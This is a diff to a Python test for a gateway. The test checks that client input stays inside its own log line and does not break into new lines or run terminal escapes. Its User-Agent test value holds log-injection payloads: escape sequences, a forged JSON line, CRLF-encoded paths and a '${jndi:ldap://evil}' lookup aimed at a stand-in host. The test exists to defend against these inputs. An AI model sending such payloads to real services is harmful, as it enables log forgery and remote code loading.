@@ -235,13 +235,11 @@ def test_i14_internal_pages_are_not_on_the_public_listener(field: Field) -> None
 def test_i15_what_a_client_says_stays_in_its_line_of_the_log(field: Field) -> None:
     """D21: line ends, escape sequences and lookups, in path, query, agent and Host."""
     agent = b'\x1b[2J"} {"fake": "line"} ${jndi:ldap://evil}\t\xe2\x80\xa8'.replace(b"\x1b", b"\xc2\x9b")
-    before = len(field.logged())
     field.play(get(b"User-Agent: " + agent + b"\r\n", target=b'/log%0a%0d%1b[2J?x=%0a{"a":1}'))
     field.play(get(b"User-Agent: " + agent + b"\r\n", target=b"/log%0a?x=%0a%7b"))
-    lines = field.logged()[before:]
-    assert [line["user_agent"] for line in lines if line["path"].startswith("/log")] == [
-        agent.decode("latin-1")
-    ]
+    lines = field.logged()
+    seen = [line["user_agent"] for line in lines if line["path"].startswith("/log")]
+    assert seen == [agent.decode("latin-1")] * 2
     assert "\x1b" not in field.gateway.log.read_text()
 
 
